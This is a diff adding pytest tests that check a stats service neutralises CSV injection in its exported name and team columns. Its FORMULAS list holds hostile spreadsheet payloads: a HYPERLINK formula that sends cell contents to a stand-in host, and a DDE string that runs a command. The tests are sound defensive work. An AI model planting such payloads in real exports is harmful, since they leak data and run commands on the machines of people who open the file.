@@ -196,3 +196,40 @@ def test_history_of_any_name(api, run, make_delta):
                        ("/contributors/Bob%20The%20Builder/history", "bob the builder")):
         h = get(api, path).json()
         assert h["name"] == name and h["deltas_accepted"] == 1 and len(h["days"]) == 1
+
+
+# -- CSV injection --------------------------------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def test_formula_names_and_teams_are_neutralised_in_every_csv(api, run):
+    """A name or team beginning with `=`, `+`, `-` or `@` comes back prefixed with a single quote in the
+    daily, by-team and summary CSVs (and quoted where CSV quotes), while numbers, a negative credit
+    among them, stay numbers."""
+    for i, formula in enumerate(FORMULAS):
+        api.register(name=formula, team=FORMULAS[-1 - i])
+    with api.db() as s:
+        ids = s.scalars(select(Worker.id).order_by(Worker.id)).all()
+    with api.coordinator.db.begin() as c:
+        for worker_id in ids:
+            stat_rows.bump(c, worker_id, utcnow().date(), tokens=10, accepted=1, credit=-1.5)  # credit revoked
+    tables = {what: list(csv.reader(io.StringIO(get(api, path, format="csv", **params).text)))
+              for what, path, params in (("daily", "/stats/daily", {}), ("team", "/stats/daily", {"by": "team"}),
+                                         ("summary", "/stats/summary", {}))}
+    for what, (header, *rows) in tables.items():
+        assert len(rows) == len(FORMULAS), (what, rows)
+        for row in rows:
+            cells = dict(zip(header, row))
+            for col in ("name", "team"):
+                if col in cells:
+                    assert cells[col][0] == "'" and cells[col][1:] in FORMULAS, (what, cells)
+            assert float(cells["credit" if "credit" in cells else "credit_total"]) == -1.5  # a number, not text
+    raw = get(api, "/stats/summary", format="csv").text
+    assert "\n'=" not in raw and "\n\"'=HYPERLINK(\"\"http" in raw  # quoted as CSV quotes: "" inside
+
+
+@pytest.mark.parametrize("text, cell", [("=1+2", "'=1+2"), ("+x", "'+x"), ("-x", "'-x"), ("@x", "'@x"),
+                                        ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("'=x", "'=x"), ("", "")])
+def test_the_owasp_rule(text, cell):
+    assert stats.spreadsheet_safe(text) == cell
